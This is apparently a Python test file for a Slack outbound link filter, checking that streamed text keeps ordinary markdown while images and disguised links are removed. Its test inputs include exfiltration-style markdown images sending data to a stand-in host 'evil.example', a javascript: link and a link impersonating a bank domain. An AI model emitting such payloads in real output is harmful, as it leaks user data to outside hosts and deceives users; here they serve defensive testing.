from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from adapters.slack.outbound.link_filter import LinkFilter
from core.text.mentions import BREAK

ALPHABET = ["[", "]", "(", ")", "!", "<", ">", ":", "`", "\\", " ", "\n", "a", "b"]
WORDS = [
    *ALPHABET,
    "https://evil.example/?d=1",
    "[a](https://a.example)",
    "![x](https://b.example)",
]


def through(*pieces: str) -> str:
    links = LinkFilter()
    return "".join(links.feed(piece) for piece in pieces) + links.flush()


@pytest.mark.parametrize(
    "text",
    [
        "plain words, 1 < 2 and 3 > 2!",
        "a list: array[0] and [ ] todo and [x] done",
        "see [the page](https://example.com/a_(b)) now",
        "`items[0](call)` is code",
        "```\n![image](https://evil.example/x.png)\n[a]: b\n```\n",
        r"an escaped \[bracket\] here",
        "<https://example.com/>",
    ],
)
def test_honest_text_stays_as_it_is(text: str) -> None:
    assert through(text) == text


@pytest.mark.parametrize(
    ("text", "gone"),
    [
        ("![x](https://evil.example/?d=secret)", "!["),
        ("[x](javascript:alert(1))", "javascript"),
        ("[https://bank.example](https://evil.example)", "[https://bank.example]("),
        ("![a\nb](https://evil.example/?d=1)", "](https"),
        ("![a][ref]\n\n[ref]: https://evil.example/?d=1", "]["),
        ("[a][ref]\n\n[ref]: https://evil.example/?d=1", "]:"),
        ("[![x](https://evil.example/i)](https://evil.example)", "!["),
    ],
)
def test_images_and_disguises_do_not_get_through(text: str, gone: str) -> None:
    for size in (1, 3, len(text)):
        pieces = [text[at : at + size] for at in range(0, len(text), size)]
        assert gone not in through(*pieces) + "\n"


@given(st.lists(st.sampled_from(WORDS), max_size=30).map("".join), st.data())
def test_the_cut_of_the_pieces_makes_no_difference(text: str, data: st.DataObject) -> None:
    cuts = sorted(data.draw(st.lists(st.integers(0, len(text)), max_size=6)))
    pieces = [text[a:b] for a, b in zip([0, *cuts], [*cuts, len(text)], strict=True)]
    assert through(*pieces) == through(text)


@given(st.lists(st.sampled_from(WORDS), max_size=30).map("".join))
def test_no_picture_is_left_in_any_text(text: str) -> None:
    from core.text.tree import parse_tree, walk

    assert not [node for node in walk(parse_tree(through(text))) if node.type == "image"]


def test_a_link_is_held_back_only_while_it_is_written() -> None:
    links = LinkFilter()
    assert links.feed("see [the") == "see "
    assert links.feed(" page](https://example.com") == ""
    assert links.feed(") and more") == "[the page](https://example.com) and more"
    assert links.feed("]") == ""
    assert links.feed("(x") == f"]{BREAK}(x"
